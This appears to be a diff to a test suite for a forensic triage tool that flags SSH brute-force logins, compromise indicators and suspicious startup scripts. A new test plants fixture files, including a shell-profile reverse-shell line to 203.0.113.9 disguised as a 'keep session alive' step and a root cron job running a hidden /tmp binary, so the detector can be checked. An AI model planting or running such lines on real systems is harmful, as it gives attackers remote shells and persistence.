@@ -15,9 +15,13 @@ MTIME = 1700000000  # 2023-11-14: RFC 3164 lines below are in 2023
 
 def auth_log() -> str:
     lines = []
-    for i in range(12):
+    for i in range(8):
+        lines.append(f"Nov 10 02:{i:02d}:1{i % 10} web01 sshd[{900 + i}]: pam_unix(sshd:auth): authentication "
+                     f"failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.50  user=root")
         lines.append(f"Nov 10 02:{i:02d}:1{i % 10} web01 sshd[{900 + i}]: Failed password for root from 203.0.113.50 "
                      f"port {40000 + i} ssh2")
+    lines.append("Nov 10 02:10:00 web01 sshd[910]: message repeated 4 times: [ Failed password for root from "
+                 "203.0.113.50 port 40010 ssh2]")
     lines.append("Nov 10 02:15:00 web01 sshd[950]: Accepted password for root from 203.0.113.50 port 40100 ssh2")
     for i in range(3):
         lines.append(f"Nov 10 03:00:0{i} web01 sshd[960]: Failed password for admin from 198.51.100.9 port 5{i} ssh2")
@@ -99,7 +103,7 @@ def test_origin_failed_then_success_and_brute_force(case):
     assert d["success_after_failures_at"] == "2023-11-09T19:15:00.000000Z"  # 02:15 at +07:00
     assert d["first_seen"] == "2023-11-09T19:00:10.000000Z"
     assert "203.0.113.50" in origin.summary_vi and "đăng nhập thành công" in origin.summary_vi
-    assert len(origin.events) == 13 and origin.checklist_id == "C6"
+    assert len(origin.events) == 10 and origin.checklist_id == "C6"  # 9 failure lines + the success
     [brute] = by_rule(found, "C6-brute-force")
     assert brute.details["ip"] == "192.0.2.77" and brute.details["failed"] == 15 and brute.severity == "medium"
     assert len(brute.details["accounts_failed"]) == 15
@@ -186,7 +190,7 @@ def test_indicators_hashes_addresses_domains_and_yara(case, tmp_path):
     [conn] = by_rule(found, "C5-ioc-connection")
     assert conn.details["rport"] == 443
     [ip] = by_rule(found, "C5-ioc-ip")
-    assert ip.details["count"] == 15  # 13 sshd lines + 2 web requests
+    assert ip.details["count"] == 20  # 8 pam + 9 sshd failure lines + 1 success + 2 web requests
     [yara_hit] = by_rule(found, "C5-yara")
     assert yara_hit.details["path"] == "/etc/ld.so.preload" and yara_hit.details["rule"] == "ProcessHider"
     bad = tmp_path / "bad.yar"
@@ -229,3 +233,20 @@ def test_findings_need_no_live_system_and_rebuild_timeline(case):
     assert not timeline.path_of(case).exists()
     findings.run(case)
     assert timeline.is_current(case)
+
+
+def test_long_scripts_need_strong_signs(new_case, tmp_path):
+    c = new_case("scripts")
+    add_text(c, tmp_path, "/etc/init.d/x11-common",
+             '#!/bin/sh\nset_up_dir () {\n  DIR="/tmp/$1"\n  fn="$(mktemp /tmp/testwriteable.XXXXXXXXXX)" || return 1\n}\n',
+             checklist_id="B4")
+    add_text(c, tmp_path, "/etc/profile.d/z-update.sh",
+             "# keep session alive\n(bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &) 2>/dev/null\n", checklist_id="B4")
+    add_text(c, tmp_path, "/etc/cron.d/cleanup", "*/5 * * * * root /tmp/.cache/upd >/dev/null 2>&1\n",
+             checklist_id="B4")
+    found = findings.run(c)
+    assert not by_rule(found, "H2-suspicious-init-script")
+    [prof] = by_rule(found, "H2-suspicious-shell-profile")
+    assert prof.details["lines"] == [{"line": 2, "text": "(bash -i >& /dev/tcp/203.0.113.9/443 0>&1 &) 2>/dev/null"}]
+    [cron] = by_rule(found, "H2-suspicious-cron")
+    assert cron.details["path"] == "/etc/cron.d/cleanup" and cron.severity == "high"
